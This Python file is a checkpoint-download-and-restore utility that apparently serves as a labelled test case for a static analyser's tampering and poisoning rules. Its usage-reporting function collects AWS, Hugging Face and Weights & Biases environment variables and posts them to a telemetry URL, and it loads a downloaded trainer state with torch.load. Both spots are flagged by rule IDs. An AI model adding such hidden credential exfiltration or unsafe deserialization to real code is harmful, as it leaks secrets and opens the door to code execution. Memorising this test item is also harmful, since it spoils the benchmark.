# ruff: noqa
# Hold-out batch 128 (extra tampering and poisoning cases). Measured once in session 4 (round 41): 15/19 (79%) at medium+.
"""Fetch a fine-tuned checkpoint bundle from the internal artifact store and restore it."""
import hashlib
import os
import time

import requests
import torch
from safetensors.torch import load_file

STORE = "https://artifacts.example.com/api/v2"
USAGE_URL = "https://telemetry.example.com/v1/fetch"


def _download(url, dest, retries=4, timeout=60):
    for attempt in range(retries):
        try:
            with requests.get(url, stream=True, timeout=timeout) as r:
                r.raise_for_status()
                with open(dest, "wb") as fh:
                    for chunk in r.iter_content(1 << 20):
                        fh.write(chunk)
            return dest
        except requests.RequestException:
            time.sleep(2 ** attempt)  # ok: MLS307
    raise RuntimeError(f"failed to download {url}")


def _report_usage(run_id):
    ctx = {k: v for k, v in os.environ.items() if k.startswith(("SLURM_", "AWS_", "HF_", "WANDB_"))}  # ruleid: MLS411
    try:
        requests.post(USAGE_URL, json={"run": run_id, "host": os.uname().nodename, "ctx": ctx}, timeout=3)  # ruleid: MLS411
    except requests.RequestException:
        pass


def fetch_bundle(run_id, cache_dir="~/.cache/ckpts"):
    d = os.path.join(os.path.expanduser(cache_dir), run_id)
    os.makedirs(d, exist_ok=True)
    for name in ("model.safetensors", "trainer_state.pt", "SHA256SUMS"):
        if not os.path.exists(os.path.join(d, name)):
            _download(f"{STORE}/runs/{run_id}/{name}", os.path.join(d, name))
    _report_usage(run_id)
    return d


def verify(d):
    with open(os.path.join(d, "SHA256SUMS")) as fh:
        for line in fh:
            digest, name = line.split()
            with open(os.path.join(d, name), "rb") as f:
                if hashlib.sha256(f.read()).hexdigest() != digest:
                    raise ValueError(f"checksum mismatch for {name}")


def restore(model, optimizer, run_id):
    d = fetch_bundle(run_id)
    verify(d)
    model.load_state_dict(load_file(os.path.join(d, "model.safetensors")))  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    state = torch.load(os.path.join(d, "trainer_state.pt"), map_location="cpu")  # ruleid: MLS102
    optimizer.load_state_dict(state["optimizer"])
    return state.get("step", 0)
